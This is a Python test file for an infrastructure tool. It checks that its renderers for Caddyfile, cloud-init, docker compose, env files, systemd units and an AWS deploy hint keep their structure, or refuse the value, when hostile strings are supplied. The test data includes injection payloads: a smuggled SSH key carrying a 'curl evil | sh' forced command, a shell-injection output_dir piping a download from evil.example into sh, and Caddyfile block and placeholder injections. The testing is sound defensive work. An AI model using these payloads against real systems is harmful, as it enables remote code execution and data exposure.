"""Every value a host receives is written in the grammar of the file it lands in (issue 11).

The renderers in components/_vps/render.py (and the AWS static site's deploy hint) are
thrown generated hostile strings (tests/hostile_strings.py) in every string field that
reaches an artifact; each artifact is read back the way its consumer reads it and must keep
its structure while the value comes back intact, or the renderer must refuse the value with
a ValueError naming the field. These are the fast, pure-Python readings (PyYAML, a port of
Caddy's lexer, shlex); tests/integration/test_artifact_grammar.py has the real tools read the
same artifacts.

Fields (34), each property test at EXAMPLES examples: Caddyfile acme_email, site fqdn,
upstream, port, health_path, lb_port; compose container name, image, command items,
healthcheck items, user, tmpfs, mounts, ports, depends_on, stop_grace_period; env-file names
and values; cloud-init ssh_public_keys (and authorized_keys), floating_ipv4,
extra_packages; host.env data_device; backup settings names and values; systemd units
service and on_calendar; jobs.txt job names, data-dirs.txt path and uid, prepare.txt steps,
bundle file paths; the AWS deploy hint's output_dir, bucket and distribution id.
"""

from __future__ import annotations

import re
import shlex
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from multicloud.components._vps.model import Container, DataDir, File, HostWorkloads, Site
from multicloud.components._vps.render import (
    Bootstrap,
    authorized_keys_file,
    backup_env,
    backup_units,
    bundle,
    bundle_files,
    caddy_token,
    caddyfile,
    cloud_init,
    compose,
    env_file,
)
from multicloud.components.static_frontend.aws import deploy_hint
from tests.conftest import base_config
from tests.helpers import bundle as plan_bundle
from tests.helpers import compose as plan_compose
from tests.helpers import env_of
from tests.hostile_strings import (
    ANY_TEXT,
    EMAILS,
    HOSTNAMES,
    INTS_OR_NOT,
    KEYS_WITH_HOSTILE_COMMENTS,
    NAMES,
    SSH_KEY_BODY,
    SSH_KEYS,
    URL_PATHS,
    caddy_tokens,
    compose_interpolated,
    field_values,
    hostile,
    one_hostile,
    shape,
)

EXAMPLES = 100
PROPERTY = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much, HealthCheck.data_too_large],
)

KEY = f"ssh-ed25519 {SSH_KEY_BODY} ops@example.com"
EMAIL = "ops@example.com"


def _controls(value: str) -> bool:
    return any(ch in value for ch in "\n\r\0")


# --- Caddyfile ------------------------------------------------------------------------------


@PROPERTY
@given(value=st.one_of(hostile(), field_values(EMAILS), field_values(URL_PATHS)))
def test_a_caddy_token_is_exactly_the_value(value):
    try:
        token = caddy_token("the_field", value)
    except ValueError as err:
        event("refused")
        assert str(err).startswith("the_field ")
        # Refused only for what no token can hold or what Caddy would expand.
        import unicodedata

        assert (
            not value
            or "{" in value
            or "}" in value
            or any(unicodedata.category(ch) in ("Cc", "Zl", "Zp", "Cs") for ch in value)
            or ("`" in value and (value.endswith("\\") or '\\"' in value))
        )
        return
    assert [(line, text) for line, text, _ in caddy_tokens(f"x {token} y\n")] == [
        (1, "x"),
        (1, value),
        (1, "y"),
    ]


def _sites(fqdn: str, upstream: str, port: Any, health: str, lb_port: Any) -> list[Site]:
    # One site of each kind: HTTPS with one replica (health check), HTTPS with replicas
    # (dynamic upstreams), plain HTTP behind a load balancer.
    return [
        Site(fqdn, upstream, port, health),
        Site("b.example.net", upstream, port, "/health", replicas=3),
        Site("c.example.net", upstream, port, "/health", replicas=2, lb_port=lb_port),
    ]


BENIGN = {"email": EMAIL, "fqdn": "a.example.net", "upstream": "api", "health": "/healthz"}


def _caddy_pairs(hostile_values: dict[str, Any], port: Any) -> set[tuple[str, str]]:
    b, h = BENIGN, hostile_values
    return {
        (b["email"], h["email"]),
        (b["fqdn"], h["fqdn"]),
        (b["upstream"], h["upstream"]),
        (f"{b['upstream']}:{port}", f"{h['upstream']}:{port}"),
        (b["health"], h["health"]),
    }


PORTS = st.integers(1, 65535)
SITE_FIELDS = {
    "email": EMAILS,
    "fqdn": HOSTNAMES,
    "upstream": NAMES,
    "health": URL_PATHS,
    "port": PORTS,
    "lb_port": PORTS,
}
SITE_HOSTILE = {"port": st.one_of(PORTS, INTS_OR_NOT), "lb_port": st.one_of(PORTS, INTS_OR_NOT)}


@PROPERTY
@given(v=one_hostile(SITE_FIELDS, SITE_HOSTILE))
def test_caddyfile_keeps_its_tokens_for_any_value(v):
    """Same tokens on the same lines as with benign values, the value being the one token
    that differs: no value opens a block, starts a site, a directive or a comment."""
    email, fqdn, upstream, health, port, lb_port = (
        v[k] for k in ("email", "fqdn", "upstream", "health", "port", "lb_port")
    )
    values = {"email": email, "fqdn": fqdn, "upstream": upstream, "health": health}
    try:
        text = caddyfile(_sites(fqdn, upstream, port, health, lb_port), email)
    except ValueError as err:
        event("refused")
        assert re.match(
            r"(acme_email|sites\[\d\]\.(fqdn|upstream|port|health_path|lb_port|replicas)) ", str(err)
        )
        return
    benign = caddyfile(_sites(BENIGN["fqdn"], BENIGN["upstream"], port, BENIGN["health"], lb_port), EMAIL)
    got, expected = caddy_tokens(text), caddy_tokens(benign)
    assert len(got) == len(expected)
    pairs = _caddy_pairs(values, port)
    for (line, token, _), (benign_line, benign_token, _) in zip(got, expected, strict=True):
        assert line == benign_line
        assert token == benign_token or (benign_token, token) in pairs


def test_the_issue_s_acme_email_injection_is_refused():
    attack = "ops@example.com\n}\nhttp://:80 {\n\troot * /data\n\tfile_server browse\n}\n(x) {"
    for render in (lambda: caddyfile([Site("api.example.com", "api", 8000, "/health")], attack),):
        with pytest.raises(ValueError, match=r"^acme_email ") as err:
            render()
        assert "file_server" not in str(err.value) and "\n" not in str(err.value)
    # Without its line breaks and tabs it is still refused (spaces), and so is a brace alone.
    with pytest.raises(ValueError, match=r"^acme_email "):
        caddyfile([], attack.replace("\n", " ").replace("\t", " "))
    with pytest.raises(ValueError, match=r"^acme_email contains a brace"):
        caddyfile([], "ops@example.com}")
    with pytest.raises(ValueError, match=r"^acme_email contains a brace"):
        caddyfile([], "{file./data/caddy/certificates/key}@example.com")


@pytest.mark.parametrize(
    ("field", "site"),
    [
        ("health_path", Site("api.example.com", "api", 8000, "/health check")),
        ("health_path", Site("api.example.com", "api", 8000, "/h\n}\n:80 {")),
        ("health_path", Site("api.example.com", "api", 8000, "/{env.SECRET}")),
        ("fqdn", Site("http://:80", "api", 8000, "/health")),
        ("fqdn", Site("import", "api", 8000, "/health")),
        ("fqdn", Site("api.example.com:80", "api", 8000, "/health")),
        ("upstream", Site("api.example.com", "unix//var/run/docker.sock", 8000, "/health")),
        ("upstream", Site("api.example.com", "{http.request.header.X}", 8000, "/health")),
        ("port", Site("api.example.com", "api", "8000 {", "/health")),  # type: ignore[arg-type]
        ("lb_port", Site("api.example.com", "api", 8000, "/health", lb_port=0)),
    ],
)
def test_a_site_value_that_would_change_the_caddyfile_is_refused(field, site):
    with pytest.raises(ValueError, match=rf"^sites\[0\]\.{field} "):
        caddyfile([site], EMAIL)


# --- cloud-init and authorized_keys ---------------------------------------------------------


BOOT_FIELDS = {
    "keys": st.lists(KEYS_WITH_HOSTILE_COMMENTS, min_size=1, max_size=4),
    "floating": st.none() | st.just("198.51.100.7"),
    "packages": st.lists(st.sampled_from(["jq", "htop", "postgresql-client-16"]), max_size=2),
}
BOOT_HOSTILE = {
    "keys": st.lists(field_values(SSH_KEYS), min_size=1, max_size=4),
    "floating": field_values(st.just("198.51.100.7")),
    "packages": st.lists(field_values(st.sampled_from(["jq", "htop"])), min_size=1, max_size=2),
}


@PROPERTY
@given(v=one_hostile(BOOT_FIELDS, BOOT_HOSTILE))
def test_cloud_init_keeps_its_structure_and_one_line_per_key(v):
    keys, floating, packages = v["keys"], v["floating"], v["packages"]
    try:
        text = cloud_init(Bootstrap(keys, floating_ipv4=floating, extra_packages=packages))
    except ValueError as err:
        event("refused")
        message = str(err)
        assert re.match(r"(ssh_public_keys\[\d\]|floating_ipv4|extra_packages\[\d\]) ", message)
        assert not [k for k in keys if len(k) >= 16 and k in message], "a key was echoed"
        return
    benign = cloud_init(
        Bootstrap(
            [KEY] * len(keys),
            floating_ipv4="198.51.100.7" if floating is not None else None,
            extra_packages=["jq"] * len(packages),
        )
    )
    doc = yaml.safe_load(text)
    assert text.startswith("#cloud-config\n")
    assert shape(doc) == shape(yaml.safe_load(benign))
    (user,) = doc["users"]
    assert user["ssh_authorized_keys"] == keys
    if packages:
        assert doc["packages"][-len(packages) :] == packages
    if floating is not None:
        (netplan,) = [f for f in doc["write_files"] if "netplan" in f["path"]]
        assert yaml.safe_load(netplan["content"])["network"]["ethernets"]["eth0"]["addresses"] == [
            f"{floating}/32"
        ]
    # authorized_keys, as cloud-init writes it (keys joined by newlines) and as the release
    # ships it: one line per key, whatever a reader counts as a line break.
    assert len("\n".join(user["ssh_authorized_keys"]).splitlines()) == len(keys)
    assert authorized_keys_file(keys).splitlines() == keys


def test_the_issue_s_smuggled_ssh_key_is_refused_by_its_index():
    smuggled = f'{KEY}\ncommand="curl evil | sh" ssh-ed25519 {SSH_KEY_BODY} attacker'
    for render in (
        lambda: cloud_init(Bootstrap([KEY, smuggled])),
        lambda: authorized_keys_file([KEY, smuggled]),
        lambda: bundle_files(HostWorkloads([Container("api", "nginx")]), "/dev/sdb", None, [KEY, smuggled]),
    ):
        with pytest.raises(ValueError, match=r"^ssh_public_keys\[1\] contains a line break") as err:
            render()
        assert SSH_KEY_BODY not in str(err.value) and "curl" not in str(err.value)
    for cr in (f"{KEY}\rssh-ed25519 {SSH_KEY_BODY} x", f'command="sh" {KEY}'):
        with pytest.raises(ValueError, match=r"^ssh_public_keys\[0\] "):
            cloud_init(Bootstrap([cr]))


# --- compose --------------------------------------------------------------------------------


@st.composite
def containers(draw: st.DrawFn) -> dict[str, Any]:
    values = st.one_of(hostile(), ANY_TEXT, st.just("ghcr.io/acme/api:1.4.2"))
    return {
        "name": draw(field_values(NAMES)),
        "image": draw(field_values(st.just("ghcr.io/acme/api:1.4.2"))),
        "command": draw(st.lists(values, min_size=1, max_size=3)),
        "healthcheck": ["CMD-SHELL", draw(values)],
        "user": draw(values.filter(bool)),  # an empty user is no `user:` at all
        "tmpfs": [draw(values)],
        "mounts": [draw(values)],
        "ports": [draw(values)],
        "depends_on": [draw(field_values(NAMES))],
        "stop_grace_period": draw(values),
    }


COMPOSE_PATHS = {
    "image": lambda svc: svc["image"],
    "command": lambda svc: svc["command"],
    "healthcheck": lambda svc: svc["healthcheck"]["test"],
    "user": lambda svc: svc["user"],
    "tmpfs": lambda svc: svc["tmpfs"],
    "mounts": lambda svc: svc["volumes"],
    "ports": lambda svc: svc["ports"],
    "stop_grace_period": lambda svc: svc["stop_grace_period"],
}


def _interpolated(value: Any) -> Any:
    if isinstance(value, list):
        return [_interpolated(v) for v in value]
    return compose_interpolated(value) if isinstance(value, str) else value


def _workloads(c: dict[str, Any]) -> HostWorkloads:
    workloads = HostWorkloads()
    workloads.add(Container(**c, env={"A": "1"}, files=[File("config/x/y.conf", "z", 0o444)]))
    return workloads


BENIGN_CONTAINER = {
    "name": "api",
    "image": "nginx:1",
    "command": ["a"],
    "healthcheck": ["CMD-SHELL", "true"],
    "user": "1000",
    "tmpfs": ["/tmp"],
    "mounts": ["/srv/data/x:/x"],
    "ports": ["80"],
    "depends_on": ["db"],
    "stop_grace_period": "30s",
}


@PROPERTY
@given(c=containers())
def test_compose_keeps_its_structure_and_takes_every_string_literally(c):
    try:
        text = compose(_workloads(c))
    except ValueError as err:
        event("refused")
        assert re.match(r"(container name|services\.|\S+\.depends_on )", str(err))
        assert _controls(str(err)) is False
        return
    doc = yaml.safe_load(text)
    benign = yaml.safe_load(compose(_workloads(BENIGN_CONTAINER | {"command": ["a"] * len(c["command"])})))
    # The service keeps its name as the key; everything else has the benign shape.
    assert list(doc["services"]) == [c["name"]]
    svc = doc["services"][c["name"]]
    benign_svc = benign["services"]["api"]
    assert list(svc["depends_on"].values()) == list(benign_svc.pop("depends_on").values())
    assert shape({k: v for k, v in svc.items() if k != "depends_on"}) == shape(benign_svc)
    for field, read in COMPOSE_PATHS.items():
        expected = (
            c[field]
            if field != "mounts"
            else [*c["mounts"], "./config/x/y.conf:/run/multicloud/config/x/y.conf:ro"]
        )
        assert _interpolated(read(svc)) == expected, field
    assert list(svc["depends_on"]) == c["depends_on"]
    assert svc["env_file"] == [f"env/{c['name']}.env"]


def test_every_compose_string_is_double_quoted():
    """compose reads YAML 1.2: a plain `1e3`, `0o17` or `yes` could be read as something
    other than the string PyYAML (1.1) meant; quoted, every reader sees the same string."""
    text = compose(_workloads(BENIGN_CONTAINER | {"command": ["sleep", "1e3", "0o17", "yes", "null"]}))
    root = yaml.compose(text)
    assert root is not None

    def scalars(node: yaml.Node, in_value: bool = False):
        if isinstance(node, yaml.MappingNode):
            for _key, value in node.value:
                yield from scalars(value, True)
        elif isinstance(node, yaml.SequenceNode):
            for item in node.value:
                yield from scalars(item, True)
        elif in_value:
            yield node

    strings = [n for n in scalars(root) if n.tag == "tag:yaml.org,2002:str"]
    # Outside the services only constants: the project name and the network driver.
    assert strings and all(n.style == '"' for n in strings if n.value not in ("multicloud", "bridge"))
    assert yaml.safe_load(text)["services"]["api"]["command"] == ["sleep", "1e3", "0o17", "yes", "null"]


def test_the_issue_s_compose_interpolation_attacks_stay_text():
    workloads = HostWorkloads()
    workloads.add(
        Container(
            "api", "ghcr.io/acme/api:${TAG:-latest}", command=["sh", "-c", "echo ${X:?}"], env={"A": "1"}
        )
    )
    text = compose(workloads)
    assert "ghcr.io/acme/api:$${TAG:-latest}" in text and "echo $${X:?}" in text
    svc = yaml.safe_load(text)["services"]["api"]
    assert compose_interpolated(svc["image"]) == "ghcr.io/acme/api:${TAG:-latest}"
    assert _interpolated(svc["command"]) == ["sh", "-c", "echo ${X:?}"]


# --- env files --------------------------------------------------------------------------------


def compose_single_quoted(src: str) -> tuple[str, str]:
    """compose-go's dotenv `extractVarValue` for a single-quoted value (dotenv/parser.go):
    the value and the rest of the file after the closing quote."""
    assert src[0] == "'"
    chars: list[str] = []
    escape = False
    for i in range(1, len(src)):
        ch = src[i]
        if ch != "'":
            if not escape and ch == "\\":
                escape = True
                continue
            if escape:
                escape = False
                chars.append("\\")
            chars.append(ch)
            continue
        if escape:
            escape = False
            chars.append(ch)
            continue
        return "".join(chars), src[i + 1 :]
    raise AssertionError("unterminated quoted value")


ENV_NAMES = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,8}", fullmatch=True)


@PROPERTY
@given(env=st.dictionaries(field_values(ENV_NAMES), field_values(ANY_TEXT), max_size=4))
def test_env_file_keeps_one_line_per_variable_and_every_value(env):
    try:
        text = env_file(env)
    except ValueError as err:
        event("refused")
        message = str(err)
        assert message.startswith("environment variable ")
        assert not _controls(message)
        shown = [v for v in env.values() if len(v) >= 12 and v in message]
        assert all(any(v in key for key in env) for v in shown), "a value was echoed"
        return
    lines = text.split("\n")
    assert lines[-1] == "" and len(lines) - 1 == max(len(env), 1)
    parsed = {}
    rest = text
    for _ in env:
        key, _, rest = rest.partition("=")
        parsed[key], rest = compose_single_quoted(rest)
        assert rest.startswith("\n")
        rest = rest[1:]
    assert parsed == env


@pytest.mark.parametrize(
    "env",
    [{"FOO\n": "x"}, {"A": "x\ny"}, {"A": "x\ry"}, {"A": "x\0y"}, {"A": "it's"}, {"A": "C:\\"}],
    ids=["newline-in-name", "newline", "carriage-return", "nul", "quote", "trailing-backslash"],
)
def test_env_file_refuses_what_it_cannot_carry_without_showing_it(env):
    with pytest.raises(ValueError, match="^environment variable ") as err:
        env_file(env)
    assert "\n" not in str(err.value) and "\r" not in str(err.value) and "\0" not in str(err.value)
    assert "it's" not in str(err.value)


# --- shell text: host.env, backup settings, the deploy hint ---------------------------------


@PROPERTY
@given(settings_=st.dictionaries(field_values(ENV_NAMES), field_values(ANY_TEXT), min_size=1, max_size=4))
def test_backup_settings_are_one_shell_word_each(settings_):
    try:
        text = backup_env(settings_)
    except ValueError as err:
        event("refused")
        assert str(err).startswith("backup setting ")
        # Names are shown (escaped), values never.
        shown = [v for v in settings_.values() if len(v) >= 12 and v in str(err)]
        assert all(any(v in key for key in settings_) for v in shown)
        return
    # shlex in POSIX mode reads single-quoted words as the shell does.
    assert shlex.split(text) == [f"{key}={value}" for key, value in settings_.items()]


def _bundle_of(workloads: HostWorkloads, device: str = "/dev/sdb") -> dict[str, str]:
    files = bundle_files(workloads, device, EMAIL, [KEY])
    bundle(files)  # every path is a plain relative path
    return {f.path: str(f.content) for f in files}


@PROPERTY
@given(device=field_values(st.just("/dev/disk/by-id/scsi-0HC_Volume_1")))
def test_host_env_holds_the_device_as_one_word(device):
    workloads = HostWorkloads([Container("api", "nginx")])
    try:
        files = _bundle_of(workloads, device)
    except ValueError as err:
        event("refused")
        assert str(err).startswith("data_device ")
        return
    assert shlex.split(files["host.env"]) == [f"DATA_DEVICE={device}"]


def _hint_argv(output_dir: str, bucket: str, distribution: str) -> list[str]:
    source = f"{output_dir}/" if output_dir else "./"
    if source.startswith("-"):
        source = "./" + source
    return [
        *("aws", "s3", "sync", source, f"s3://{bucket}", "--delete", "&&"),
        *("aws", "cloudfront", "create-invalidation", "--distribution-id", distribution, "--paths", "/*"),
    ]


@PROPERTY
@given(
    output_dir=field_values(st.sampled_from(["out", "dist", "apps/web/out"])),
    bucket=field_values(st.just("web-bucket-1234")),
    distribution=field_values(st.just("E2QWRUHAPOMQZL")),
)
def test_deploy_hint_keeps_every_argument_one_word(output_dir, bucket, distribution):
    try:
        hint = deploy_hint(output_dir, bucket, distribution)
    except ValueError as err:
        event("refused")
        assert "\0" in output_dir + bucket + distribution and "NUL" in str(err)
        return
    assert shlex.split(hint) == _hint_argv(output_dir, bucket, distribution)


def test_the_issue_s_output_dir_injection_is_one_argument():
    attack = "out/ s3://x --acl public-read; curl https://evil.example/x | sh; true "
    hint = deploy_hint(attack, "bucket", "E1")
    assert shlex.split(hint)[:6] == ["aws", "s3", "sync", f"{attack}/", "s3://bucket", "--delete"]
    assert shlex.split(deploy_hint("--exclude=*", "bucket", "E1"))[3] == "./--exclude=*/"


# --- line-based files and systemd units -------------------------------------------------------


LINE_FIELDS = {
    "job": NAMES,
    "data_path": st.sampled_from(["db/pgdata", "cache"]),
    "uid": st.integers(0, 70000),
    "prepare": st.sampled_from(["prepare-postgres.sh db 16", "prepare-postgres.sh db 16 10.0.1.5"]),
    "file_path": st.sampled_from(["config/api/app.conf", "secrets/api/key"]),
    "upstream": NAMES,
    "port": PORTS,
    "health": URL_PATHS,
}
LINE_HOSTILE = {"uid": st.one_of(st.integers(0, 70000), INTS_OR_NOT), "port": st.one_of(PORTS, INTS_OR_NOT)}


@PROPERTY
@given(v=one_hostile(LINE_FIELDS, LINE_HOSTILE))
def test_line_files_keep_one_line_per_entry_and_their_columns(v):
    job, data_path, uid, prepare, file_path = (
        v[k] for k in ("job", "data_path", "uid", "prepare", "file_path")
    )
    site = (v["upstream"], v["port"], v["health"])
    upstream, port, health = site
    try:
        workloads = HostWorkloads()
        workloads.add(Container(job, "postgres:16", job=True))
        workloads.add(
            Container(
                "svc",
                "postgres:16",
                data_dirs=[DataDir(data_path, uid, uid, 0o700)],
                prepare_script=prepare,
                files=[File(file_path, "x", 0o400)],
            )
        )
        workloads.sites.append(Site("api.example.com", upstream, port, health))
        files = _bundle_of(workloads)
    except ValueError as err:
        event("refused")
        assert re.match(r"(container name|a container named|svc\.|sites\[0\]\.)", str(err)), str(err)
        return
    assert files["jobs.txt"].split("\n") == [job, ""]
    assert [line.split(" ") for line in files["rollout.txt"].splitlines()] == [[upstream, str(port), health]]
    rows = [line.split(" ") for line in files["data-dirs.txt"].splitlines()]
    assert [data_path, str(uid), str(uid), "700"] in rows and len(rows) == 3
    # An empty prepare_script is no script: nothing to run, no line.
    assert files["prepare.txt"].splitlines() == ([prepare] if prepare else [])
    assert file_path in files


@PROPERTY
@given(
    v=one_hostile(
        {"service": NAMES, "on_calendar": st.sampled_from(["*-*-* 03:00:00", "daily", "Mon..Fri 02:30"])}
    )
)
def test_systemd_units_keep_their_lines(v):
    service, on_calendar = v["service"], v["on_calendar"]
    try:
        units = backup_units(service, on_calendar)
    except ValueError as err:
        event("refused")
        assert re.match(r"backup (service|on_calendar) ", str(err))
        return
    benign = backup_units("db", "daily")
    for unit, reference in zip(units, benign, strict=True):
        assert len(unit.content.splitlines()) == len(reference.content.splitlines())
        assert unit.path == reference.path.replace("-db.", f"-{service}.")
    timer = units[1].content.splitlines()
    assert f"OnCalendar={on_calendar}" in timer
    (exec_start,) = [line for line in units[0].content.splitlines() if line.startswith("ExecStart=")]
    assert exec_start.split(" ") == [
        "ExecStart=/srv/app/bin/heartbeat.sh",
        "HEARTBEAT_URL",
        "/srv/app/bin/backup-postgres.sh",
        service,
    ]


# --- the wiring, through a whole offline plan -------------------------------------------------


def test_a_plan_hands_the_host_literal_text(run_plan):
    """Config values with `$`, `#`, quotes and backticks reach compose.yaml and the env file
    unchanged, and none is interpolated on the host."""
    config = base_config()
    value = 'cost: ${X:?} $HOME #1 `id` "q" \\ ü'
    config["services"]["api"]["env"] = {"GREETING": value}
    config["services"]["api"]["command"] = ["sh", "-c", "echo ${X:?} && exec app"]
    config["services"]["api"]["health_path"] = "/health;v='$(id)'"
    result = run_plan(config)
    svc = plan_compose(result, "main")["services"]["api"]
    assert _interpolated(svc["command"]) == ["sh", "-c", "echo ${X:?} && exec app"]
    assert env_of(result, "main", "api")["GREETING"] == value
    files = plan_bundle(result, "main")
    assert [text for _, text, _ in caddy_tokens(files["Caddyfile"].text)].count("/health;v='$(id)'") == 1
    assert files["rollout.txt"].text == "api 8080 /health;v='$(id)'\n"
    text = files["compose.yaml"].text
    for svc in yaml.safe_load(text)["services"].values():
        _interpolated(svc)  # no lone `$` anywhere: compose would read it as a variable


def test_backends_hand_the_renderer_literal_text(run_plan):
    """A backend gives the renderer the text the container should see; escaping for compose
    is the renderer's (a backend that wrote `$$` itself would get `$$$$`, a PID)."""
    services = plan_compose(run_plan(base_config()), "main")["services"]
    for name, svc in services.items():
        for text in [*svc.get("command", []), *svc.get("healthcheck", {}).get("test", [])]:
            assert "$$" not in compose_interpolated(text), f"{name}: a pre-escaped $ reaches the container"
